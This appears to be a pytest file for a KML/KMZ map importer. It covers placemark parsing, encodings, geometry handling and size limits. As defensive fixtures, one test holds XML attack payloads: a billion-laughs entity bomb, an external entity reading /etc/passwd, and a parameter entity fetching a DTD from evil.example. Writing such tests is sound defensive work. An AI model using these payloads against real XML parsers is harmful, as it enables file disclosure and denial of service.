"""KML and KMZ as map programs write them, and as an enemy would."""

import io
import time
import zipfile
from dataclasses import replace

import pytest

from potluck.engine.mapping import apply, guess
from potluck.engine.nouns import Reading
from potluck.engine.read import LIMITS, UnreadableError, describe, read_bytes

HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>Co-ops</name>'
)
FOOT = "</Document></kml>"
MAP = f"""{HEAD}
<Style id="icon"><IconStyle><Icon><href>https://pictures.example/pin.png</href></Icon></IconStyle></Style>
<Folder><name>Food</name>
 <Placemark><name>Second Spoon</name><description><![CDATA[A <b>grocery</b><br>phone: 608 555 0110]]></description><styleUrl>#icon</styleUrl>
  <ExtendedData><Data name="website"><value>https://spoon.example</value></Data><Data name="opened"><value>1998</value></Data></ExtendedData>
  <Point><coordinates>
    -89.3801,43.0701,0
  </coordinates></Point></Placemark>
 <Folder><name>Bread</name>
  <Placemark><name>Blue Kettle</name><address>40 Mill Road, Madison</address><phoneNumber>608 555 0102</phoneNumber>
   <Point><coordinates>-89.39, 43.08</coordinates></Point></Placemark></Folder></Folder>
<Placemark><name>Night Oven</name><ExtendedData><SchemaData schemaUrl="#s"><SimpleData name="website">https://oven.example</SimpleData></SchemaData></ExtendedData></Placemark>
{FOOT}"""


def read(text: str, name: str = "map.kml", **limits: int) -> Reading:
    return read_bytes(text.encode(), name, limits=replace(LIMITS, **limits))


def refused(text: str, name: str = "map.kml", **limits: int) -> str:
    with pytest.raises(UnreadableError) as caught:
        read(text, name, **limits)
    assert caught.value.remedy
    assert "{" not in caught.value.message + caught.value.remedy
    return caught.value.code


def mark(inner: str) -> str:
    return f"{HEAD}<Placemark><name>Oak</name>{inner}</Placemark>{FOOT}"


def test_placemarks_are_rows_with_their_data_folders_and_points() -> None:
    reading = read(MAP)
    (table,) = reading.tables
    assert reading.format == "kml"
    assert table.rows.to_list() == [1, 2, 3]
    assert table.frame.to_dicts() == [
        {"name": "Second Spoon", "description": "A <b>grocery</b><br>phone: 608 555 0110", "website": "https://spoon.example",
         "opened": "1998", "folder": "Food", "address": None, "phone": None, "lat": "43.0701", "lon": "-89.3801"},
        {"name": "Blue Kettle", "description": None, "website": None, "opened": None, "folder": "Food / Bread",
         "address": "40 Mill Road, Madison", "phone": "608 555 0102", "lat": "43.08", "lon": "-89.39"},
        {"name": "Night Oven", "description": None, "website": "https://oven.example", "opened": None, "folder": None,
         "address": None, "phone": None, "lat": None, "lon": None},
    ]  # fmt: skip
    assert [(i.code, i.params) for i in reading.issues] == [("no_geometry", {"count": "1"})]


def test_it_is_known_by_its_content_and_walks_on() -> None:
    for name in ("map", "map.xml", "map.csv", "map.kml"):
        assert read(MAP, name).format == "kml"
    assert read(MAP.replace('<?xml version="1.0" encoding="UTF-8"?>', "<!-- made by hand -->")).format == "kml"
    reading = read(MAP)
    mapped = apply(reading, guess(reading))
    assert mapped.records.height == 3
    said = {(field, value) for _, field, value, *_ in mapped.facts.iter_rows()}
    assert {("name", "Blue Kettle"), ("website", "https://oven.example"), ("lat", "43.0701")} <= said


def test_other_letters_than_utf8() -> None:
    latin = mark("<description>Bäckerei</description>").replace("UTF-8", "ISO-8859-1").encode("latin-1")
    (table,) = read_bytes(latin, "map.kml").tables
    assert table.frame["description"].to_list() == ["Bäckerei"]
    (table,) = read_bytes(MAP.replace("UTF-8", "UTF-16").encode("utf-16"), "map.kml").tables
    assert table.frame.height == 3


def test_columns_that_are_called_like_ours_stay_apart() -> None:
    data = '<ExtendedData><Data name="lat"><value>north</value></Data><Data name="name"><value>Elm</value></Data></ExtendedData>'
    (table,) = read(mark(data + "<Point><coordinates>1,2</coordinates></Point>")).tables
    assert table.frame.to_dicts() == [
        {"name": "Oak", "lat": "north", "name [2]": "Elm", "geometry lat": "2", "geometry lon": "1"}
    ]


RING = "<Polygon><outerBoundaryIs><LinearRing><coordinates>{}</coordinates></LinearRing></outerBoundaryIs>{}</Polygon>"


@pytest.mark.parametrize(
    ("shape", "point", "code"),
    [
        (RING.format("1,1 1.1,1 1.1,1.1 1,1.1 1,1", ""), ("1.050000", "1.050000"), "point_from_shape"),
        (RING.format("1,1 9,1 9,9 1,9 1,1", ""), None, "shape_left_out"),
        (RING.format("1,1 1.1,1 1.1,1.1 1,1", "<innerBoundaryIs><LinearRing><coordinates>1,1 1,1 1,1</coordinates></LinearRing></innerBoundaryIs>"),
         None, "shape_left_out"),
        (RING.format("1,1 nan,1 1.1,1.1 1,1", ""), None, "shape_left_out"),
        (RING.format("a,b c,d e,f", ""), None, "shape_left_out"),
        ("<LineString><coordinates>1,1 1.1,1.1</coordinates></LineString>", None, "shape_left_out"),
        ("<MultiGeometry><Point><coordinates>1,1</coordinates></Point><Point><coordinates>2,2</coordinates></Point></MultiGeometry>", None, "shape_left_out"),
        ("<MultiGeometry><LineString><coordinates>1,1 2,2</coordinates></LineString><Point><coordinates>3,4</coordinates></Point></MultiGeometry>",
         ("4", "3"), None),
        ("<Point><coordinates>  </coordinates></Point>", None, "shape_left_out"),
        ("<Point><coordinates>garbage</coordinates></Point>", None, "shape_left_out"),
    ],
)  # fmt: skip
def test_lines_and_areas_get_a_point_only_where_it_is_no_guess(
    shape: str, point: tuple[str, str] | None, code: str | None
) -> None:
    reading = read(mark(shape))
    row = reading.tables[0].frame.to_dicts()[0]
    assert (row.get("lat"), row.get("lon")) == (point or (None, None))
    assert [i.code for i in reading.issues] == ([code] if code else [])
    assert all(describe(i)[1] for i in reading.issues)


def test_links_to_other_maps_are_told_not_followed() -> None:
    link = (
        "<NetworkLink><name>All</name><Link><href>https://www.google.com/maps/d/kml?mid=1x</href></Link></NetworkLink>"
    )
    assert refused(f"{HEAD}{link}{FOOT}") == "kml_link"
    with pytest.raises(UnreadableError, match="forcekml=1"):
        read(f"{HEAD}{link}{FOOT}")
    reading = read(MAP.replace(FOOT, link + FOOT))
    assert reading.tables[0].frame.height == 3
    assert "link_not_followed" in [i.code for i in reading.issues]


def laughs(depth: int = 12) -> str:
    inner = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth))
    return f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY l0 "lol">{inner}]><kml><Placemark><name>&l{depth - 1};</name></Placemark></kml>'


@pytest.mark.parametrize(
    "text",
    [
        laughs(),
        '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml><Placemark><name>&x;</name></Placemark></kml>',
        '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><kml><Placemark/></kml>',
    ],
)  # fmt: skip
def test_entities_are_not_followed(text: str) -> None:
    began = time.monotonic()
    assert refused(text) == "xml_tricks"
    assert time.monotonic() - began < 20


def test_a_document_type_elsewhere_is_not_asked_for() -> None:
    """The tests have no network: asking would be an error."""
    text = '<?xml version="1.0"?><!DOCTYPE kml SYSTEM "http://evil.example/x.dtd"><kml><Placemark><name>a</name></Placemark></kml>'
    assert read(text).tables[0].frame.to_dicts() == [{"name": "a"}]


def test_xml_that_breaks_off_and_files_without_places() -> None:
    assert refused(MAP[:900]) == "bad_xml"
    assert refused(f"{HEAD}<Placemark><name>Oak</Placemark>{FOOT}") == "bad_xml"
    assert refused(HEAD + FOOT) == "no_rows"
    assert refused('<?xml version="1.0"?><rss><channel/></rss>') == "xml"


def test_limits() -> None:
    assert refused(f"{HEAD}{'<Folder>' * 100_000}") == "too_deep"
    assert refused(f"{HEAD}{'<Placemark/>' * 50}{FOOT}", rows=20) == "too_many_rows"
    many = "".join(f'<Data name="c{n}"><value>1</value></Data>' for n in range(3_000))
    assert refused(mark(f"<ExtendedData>{many}</ExtendedData>")) == "too_many_columns"
    assert refused(MAP, bytes=100) == "too_big"
    reading = read(MAP.replace("A <b>grocery</b>", "x" * 2_000_000))
    assert reading.tables[0].rows.to_list() == [2, 3]
    assert [(i.code, i.row) for i in reading.issues if i.severity == "refused"] == [("cell_too_long", 1)]
    assert reading.read == 3


def test_nul_letters_and_markup_inside_a_text() -> None:
    (table,) = read(mark("<description>a\0b</description>")).tables
    assert table.frame["description"].to_list() == ["ab"]
    (table,) = read(mark("<description>See <b>here</b> now</description>")).tables
    assert table.frame["description"].to_list() == ["See here now"]


def kmz(**more: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("doc.kml", MAP)
        for name, data in more.items():
            parts.writestr(name.replace("__", "/").replace("_", "."), data)
    return out.getvalue()


def test_a_kmz_is_the_kml_in_it() -> None:
    for data in (kmz(), kmz(images__pin_png=b"\x89PNG\r\n\x1a\n"), kmz(other_kml=b"<kml/>", files__more_kml=b"<kml/>")):
        reading = read_bytes(data, "map.kmz")
        assert (reading.format, reading.tables[0].name, reading.tables[0].frame.height) == ("kml", "doc", 3)
